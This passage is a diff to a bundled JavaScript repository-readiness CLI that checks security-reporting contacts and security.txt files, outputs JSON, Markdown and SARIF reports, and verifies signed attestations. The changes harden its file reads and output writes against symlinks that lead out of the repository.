+      if (/\/(issues|discussions|-\/issues)/i.test(url)) publicOnly ??= { url, line: lineOf(text2, m2.index) };
       continue;
     }
-    if (PRIVATE_URL.test(url)) return { found: url, line: lineOf(text2, m2.index) };
+    if (!FORGE_HOST.test(url) && SECURITY_PAGE.test(url)) return { found: url, line: lineOf(text2, m2.index) };
   }
+  const obfuscated = OBFUSCATED_EMAIL.exec(text2);
+  if (obfuscated) return { found: obfuscated[0], line: lineOf(text2, obfuscated.index) };
   const feature = PRIVATE_REPORTING_FEATURE.exec(text2);
   if (feature) return { found: `"${feature[0]}"`, line: lineOf(text2, feature.index) };
   return publicOnly ? { publicOnly: publicOnly.url, line: publicOnly.line } : {};
+}
+function* emails(text2) {
+  let at3 = text2.indexOf("@");
+  while (at3 >= 0) {
+    let start = at3;
+    while (start > 0 && at3 - start < 64 && /[A-Za-z0-9._%+-]/.test(text2[start - 1])) start--;
+    let end = at3 + 1;
+    while (end < text2.length && end - at3 < 255 && /[A-Za-z0-9.-]/.test(text2[end])) end++;
+    const local = text2.slice(start, at3);
+    const domain = text2.slice(at3 + 1, end).replace(/\.+$/, "");
+    if (local && /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}$/.test(domain)) yield { address: `${local}@${domain}`, index: start };
+    at3 = text2.indexOf("@", end);
+  }
 }
 
 // checks/security/security-txt/README.md
@@ -36766,7 +36812,7 @@ function validate(path, text2, now) {
     if (signed && /^Hash:/i.test(line)) return;
     if (signed && line.startsWith("- ")) line = line.slice(2);
     if (!line.trim() || line.startsWith("#")) return;
-    const m2 = /^([A-Za-z0-9-]+):\s(.*)$/.exec(line);
+    const m2 = /^([A-Za-z0-9-]+):\s*(.*)$/.exec(line);
     if (!m2) {
       fail(
         number,
@@ -37034,7 +37080,7 @@ function buildStatement(inputs) {
 }
 
 // src/cli/check-command.ts
-import { relative as relative2, resolve as resolve3, sep as sep3 } from "node:path";
+import { relative as relative2, resolve as resolve3, sep as sep4 } from "node:path";
 
 // node_modules/badge-maker/lib/color.js
 var import_css_color_converter = __toESM(require_lib2(), 1);
@@ -38985,18 +39031,15 @@ function findDefault(root) {
   }
   for (const location of CONFIG_LOCATIONS) {
     const full = join2(realRoot, location);
+    let real;
     try {
-      const st3 = lstatSync3(full);
-      if (st3.isSymbolicLink()) {
-        const real = realpathSync(full);
-        if (!real.startsWith(realRoot + sep))
-          throw new UsageError(`${location} is a symlink out of the repository; ois-ready does not follow it`);
-        return real;
-      }
-      if (st3.isFile()) return full;
-    } catch (error) {
-      if (error instanceof UsageError) throw error;
+      real = realpathSync(full);
+    } catch {
+      continue;
     }
+    if (!real.startsWith(realRoot + sep))
+      throw new UsageError(`${location} leads out of the repository (to ${real}); ois-ready does not follow it`);
+    if (lstatSync3(real).isFile()) return real;
   }
   return void 0;
 }
@@ -39061,7 +39104,7 @@ async function runOne(check12, contextFor, timeoutMs) {
       return [
         {
           status: "error",
-          message: `${check12.meta.id} did not finish within ${timeoutMs / 1e3} s and was stopped`,
+          message: `${check12.meta.id} did not finish within ${timeoutMs / 1e3} s; the run went on without its result`,
           remediation: "Raise limits.check-timeout-seconds in the config, or exclude large generated or vendored folders."
         }
       ];
@@ -39142,6 +39185,9 @@ function linguistAttributes(rules, path) {
 
 // src/core/snapshot.ts
 var BINARY_SNIFF_BYTES = 8e3;
+var PROTECTED_PATHS = ["*", ".github/**", ".gitlab/**", "docs/*", "**/.well-known/security.txt"];
+var isProtected = (0, import_picomatch2.default)(PROTECTED_PATHS, { dot: true });
+var MAX_ATTRIBUTE_RULES = 2e3;
 var MAX_LINK_HOPS = 8;
 var Snapshot = class {
   constructor(root, realRoot, source, files, excluded, symlinks, problems, maxFileBytes) {
@@ -39228,35 +39274,41 @@ var Snapshot = class {
         message: `${path} is ${formatBytes(entry.size)}, over the read limit of ${formatBytes(this.maxFileBytes)} (limits.max-file-bytes); it was not read`
       };
     }
-    const full = join3(this.root, path);
-    try {
-      const real = await realpath(full);
-      if (real !== this.realRoot && !real.startsWith(this.realRoot + sep2)) {
-        return { ok: false, path, reason: "outside", message: `${path} resolves outside the repository (${real}); not read` };
+    const read = await readConfined(this.realRoot, path, Math.min(entry.size, this.maxFileBytes));
+    if (Buffer.isBuffer(read)) {
+      if (read.length > this.maxFileBytes) {
+        return {
+          ok: false,
+          path,
+          reason: "too-large",
+          message: `${path} grew over the read limit of ${formatBytes(this.maxFileBytes)} while being read`
+        };
       }
-      const handle = await open(full, constants.O_RDONLY | constants.O_NOFOLLOW);
-      try {
-        const buffer = Buffer.alloc(Math.min(entry.size, this.maxFileBytes) + 1);
-        const { bytesRead } = await handle.read(buffer, 0, buffer.length, 0);
-        if (bytesRead > this.maxFileBytes) {
-          return {
-            ok: false,
-            path,
-            reason: "too-large",
-            message: `${path} grew over the read limit of ${formatBytes(this.maxFileBytes)} while being read`
-          };
-        }
-        return decode(path, buffer.subarray(0, bytesRead));
-      } finally {
-        await handle.close();
-      }
-    } catch (error) {
-      const code = error.code;
-      if (code === "ENOENT") return { ok: false, path, reason: "missing", message: `${path} is tracked but missing from the work tree` };
-      return { ok: false, path, reason: "unreadable", message: `${path} could not be read (${code ?? error.message})` };
+      return decode(path, read);
     }
+    if ("outside" in read)
+      return { ok: false, path, reason: "outside", message: `${path} resolves outside the repository (${read.outside}); not read` };
+    if (read.code === "ENOENT") return { ok: false, path, reason: "missing", message: `${path} is tracked but missing from the work tree` };
+    return { ok: false, path, reason: "unreadable", message: `${path} could not be read (${read.code})` };
   }
 };
+async function readConfined(realRoot, path, limit) {
+  const full = join3(realRoot, path);
+  try {
+    const real = await realpath(full);
+    if (real !== realRoot && !real.startsWith(realRoot + sep2)) return { outside: real };
+    const handle = await open(full, constants.O_RDONLY | constants.O_NOFOLLOW);
+    try {
+      const buffer = Buffer.alloc(limit + 1);
+      const { bytesRead } = await handle.read(buffer, 0, buffer.length, 0);
+      return buffer.subarray(0, bytesRead);
+    } finally {
+      await handle.close();
+    }
+  } catch (error) {
+    return { code: error.code ?? error.message };
+  }
+}
 function decode(path, bytes) {
   const n = bytes.length;
   if (n >= 2 && bytes[0] === 255 && bytes[1] === 254)
@@ -39302,8 +39354,27 @@ async function takeSnapshot(options) {
   const sized = [];
   const symlinks = [];
   const ignored = options.ignore?.length ? (0, import_picomatch2.default)(options.ignore, { dot: true }) : () => false;
+  const folderInside = /* @__PURE__ */ new Map();
+  const insideRoot = (folder) => {
+    let inside = folderInside.get(folder);
+    if (inside === void 0) {
+      try {
+        const real = realpathSync2(join3(realRoot, folder));
+        inside = real === realRoot || real.startsWith(realRoot + sep2);
+      } catch {
+        inside = true;
+      }
+      folderInside.set(folder, inside);
+    }
+    return inside;
+  };
   for (const listed of listing.entries) {
     if (ignored(listed.path)) continue;
+    const folder = posix.dirname(listed.path);
+    if (folder !== "." && !insideRoot(folder)) {
+      problems.push({ path: listed.path, message: "its folder is a link out of the repository; not checked" });
+      continue;
+    }
     let st3;
     try {
       st3 = lstatSync4(join3(realRoot, listed.path));
@@ -39324,7 +39395,7 @@ async function takeSnapshot(options) {
     sized.push({ path: listed.path, kind, size: kind === "file" ? st3.size : 0 });
   }
   sized.sort((a, b3) => a.path < b3.path ? -1 : a.path > b3.path ? 1 : 0);
-  const rules = await attributeRules(realRoot, sized, options.maxFileBytes);
+  const rules = await attributeRules(realRoot, sized, options.maxFileBytes, problems);
   const excludeMatchers = options.exclude.map((glob) => ({ glob, isMatch: (0, import_picomatch2.default)(glob, { dot: true }) }));
   const included = [];
   const excluded = [];
@@ -39349,22 +39420,27 @@ function describeLink(realRoot, path) {
   if (resolved === ".." || resolved.startsWith("../") || resolved === ".") return { path, target, outside: true };
   return { path, target, resolved, outside: false };
 }
-async function attributeRules(realRoot, entries, maxBytes) {
+async function attributeRules(realRoot, entries, maxBytes, problems) {
   const files = entries.filter((e) => e.kind === "file" && (e.path === ".gitattributes" || e.path.endsWith("/.gitattributes"))).sort((a, b3) => a.path.split("/").length - b3.path.split("/").length || (a.path < b3.path ? -1 : 1));
   const rules = [];
   for (const file of files) {
     if (file.size > maxBytes) continue;
-    const handle = await open(join3(realRoot, file.path), constants.O_RDONLY | constants.O_NOFOLLOW).catch(() => void 0);
-    if (!handle) continue;
-    try {
-      rules.push(...parseGitattributes(file.path, await handle.readFile("utf8")));
-    } finally {
-      await handle.close();
+    const read = await readConfined(realRoot, file.path, maxBytes);
+    if (!Buffer.isBuffer(read)) continue;
+    const parsed = parseGitattributes(file.path, read.toString("utf8"));
+    const room = MAX_ATTRIBUTE_RULES - rules.length;
+    rules.push(...parsed.slice(0, Math.max(0, room)));
+    if (parsed.length > room) {
+      problems.push({
+        path: file.path,
+        message: `more than ${MAX_ATTRIBUTE_RULES} linguist-vendored/linguist-generated rules in all; the rest were not applied`
+      });
     }
   }
   return rules;
 }
 function exclusionReason(path, matchers, rules) {
+  if (isProtected(path)) return void 0;
   for (const { glob, isMatch } of matchers) if (isMatch(path)) return `config exclude: ${glob}`;
   if (rules.length === 0) return void 0;
   const attrs = linguistAttributes(rules, path);
@@ -39487,8 +39563,8 @@ function aggregate(findings) {
 function anchorFindings(findings, check12, snapshot) {
   return findings.map((f3) => {
     if (f3.location || f3.status !== "fail" && f3.status !== "error") return f3;
-    const anchor = snapshot.find([...check12.meta.anchors ?? [], "README.md", "README"]);
-    return anchor ? { ...f3, location: { path: anchor.path } } : f3;
+    const anchor = snapshot.find([...check12.meta.anchors ?? [], "README.md", "README"])?.path ?? check12.meta.anchors?.[0] ?? "README.md";
+    return { ...f3, location: { path: anchor } };
   });
 }
 function repositorySection(snapshot, git) {
@@ -39521,17 +39597,31 @@ function policyDigest(config, failOn) {
 }
 
 // src/core/output-folder.ts
-import { mkdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
-import { join as join4, resolve as resolve2 } from "node:path";
-function writeOutputs(folder, files) {
+import { lstatSync as lstatSync5, mkdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
+import { dirname, join as join4, resolve as resolve2, sep as sep3 } from "node:path";
+function writeOutputs(folder, files, repositoryRoot) {
   const dir = resolve2(folder);
+  const root = repositoryRoot ? resolve2(repositoryRoot) : void 0;
+  const inside = root !== void 0 && dir.startsWith(root + sep3);
+  for (let p2 = dir; inside ? p2 !== root : p2 === dir; p2 = dirname(p2)) {
+    let isLink = false;
+    try {
+      isLink = lstatSync5(p2).isSymbolicLink();
+    } catch {
+    }
+    if (isLink)
+      throw new UsageError(
+        `the output folder ${folder} goes through the symlink ${p2}; ois-ready does not write through links. Choose another output folder.`
+      );
+    if (p2 === dirname(p2)) break;
+  }
   mkdirSync(dir, { recursive: true });
   const written = {};
   const temps = [];
   try {
     for (const [name, content] of Object.entries(files)) {
       const temp = join4(dir, `.${name}.${process.pid}.tmp`);
-      writeFileSync(temp, content);
+      writeFileSync(temp, content, { flag: "wx" });
       temps.push([temp, join4(dir, name)]);
     }
     for (const [temp, final] of temps) {
@@ -39663,7 +39753,7 @@ function renderConsole(report, width = 100) {
   lines.push(`${"     "}${"check".padEnd(idWidth)}  L  result`);
   for (const check12 of report.checks) {
     const label = statusLabel(check12);
-    const text2 = headline(check12);
+    const text2 = printable(headline(check12));
     const room = Math.max(20, width - idWidth - 11);
     lines.push(`${MARKS[label]} ${check12.id.padEnd(idWidth)}  ${check12.level}  ${text2.length > room ? `${text2.slice(0, room - 1)}\u2026` : text2}`);
   }
@@ -39687,7 +39777,7 @@ function renderJson(report) {
 }
 
 // src/report/sarif.ts
-function renderSarif(report, checks) {
+function renderSarif(report, checks, uriPrefix = "") {
   const byId = new Map(checks.map((c3) => [c3.meta.id, c3]));
   const ran = report.checks.filter((c3) => byId.has(c3.id));
   const rules = ran.map((c3) => {
@@ -39719,7 +39809,7 @@ Fix: ${f3.remediation}` : f3.message }
         result.locations = [
           {
             physicalLocation: {
-              artifactLocation: { uri: encodeURI(f3.location.path), uriBaseId: "%SRCROOT%" },
+              artifactLocation: { uri: encodeURI(`${uriPrefix}${f3.location.path}`), uriBaseId: "%SRCROOT%" },
               ...f3.location.startLine ? { region: { startLine: f3.location.startLine, ...f3.location.endLine ? { endLine: f3.location.endLine } : {} } } : {}
             }
           }
@@ -39772,11 +39862,11 @@ function firstParagraph(markdown, heading) {
 
 // src/report/outputs.ts
 var OUTPUT_FILES = { report: "report.json", summary: "summary.md", sarif: "results.sarif" };
-function renderOutputs(report, checks) {
+function renderOutputs(report, checks, options = {}) {
   return {
     [OUTPUT_FILES.report]: renderJson(report),
     [OUTPUT_FILES.summary]: renderMarkdown(report),
-    [OUTPUT_FILES.sarif]: renderSarif(report, checks)
+    [OUTPUT_FILES.sarif]: renderSarif(report, checks, options.sarifUriPrefix)
   };
 }
 
@@ -39789,7 +39879,7 @@ async function runCheckCommand(path, opts, io2, env = process.env) {
   const root = resolve3(path);
   const out = resolve3(opts.outputDir);
   const insideRoot = relative2(root, out);
-  const ignore2 = insideRoot && !insideRoot.startsWith("..") && !insideRoot.startsWith(sep3) ? [`${insideRoot.split(sep3).join("/")}/**`] : [];
+  const ignore2 = insideRoot && !insideRoot.startsWith("..") && !insideRoot.startsWith(sep4) ? [`${insideRoot.split(sep4).join("/")}/**`] : [];
   const progress = opts.quiet ? void 0 : io2.isTTY ? (message) => io2.stderr(`\r\x1B[2K${message}`) : (message, transient) => {
     if (!transient) io2.stderr(`${message}
 `);
@@ -39810,7 +39900,7 @@ async function runCheckCommand(path, opts, io2, env = process.env) {
     );
   else if (!opts.quiet && opts.sign === "auto")
     io2.stderr("not signed: no signing key given (--signing-key or OIS_READY_SIGNING_KEY); no attestation or badge written\n");
-  const written = writeOutputs(out, files);
+  const written = writeOutputs(out, files, root);
   if (opts.format === "json") io2.stdout(renderJson(result.report));
   else if (!opts.quiet) {
     io2.stdout(renderConsole(result.report));
@@ -40055,12 +40145,13 @@ function runVerify(file, opts, io2) {
       if (v3.valid && p2) {
         const signer = v3.signer?.type === "key" ? `key ${v3.signer.keyid.slice(0, 16)}\u2026` : v3.signer?.type === "sigstore" ? `${v3.signer.identity} (${v3.signer.issuer})` : "?";
         io2.stdout(
-          `VALID (line ${line}): level ${p2.level} for ${p2.repository.url ?? "a repository"} at ${p2.repository.commit?.slice(0, 12) ?? "no commit"}, signed by ${signer}, valid until ${p2.validUntil}
-`
+          printable(
+            `VALID (line ${line}): level ${p2.level} for ${p2.repository.url ?? "a repository"} at ${p2.repository.commit?.slice(0, 12) ?? "no commit"}, signed by ${signer}, valid until ${p2.validUntil}`
+          ) + "\n"
         );
       } else {
         io2.stdout(`INVALID (line ${line}):
-${v3.rejections.map((r2) => `  ${r2.code}: ${r2.message}
+${v3.rejections.map((r2) => `  ${r2.code}: ${printable(r2.message)}
 `).join("")}`);
       }
     }
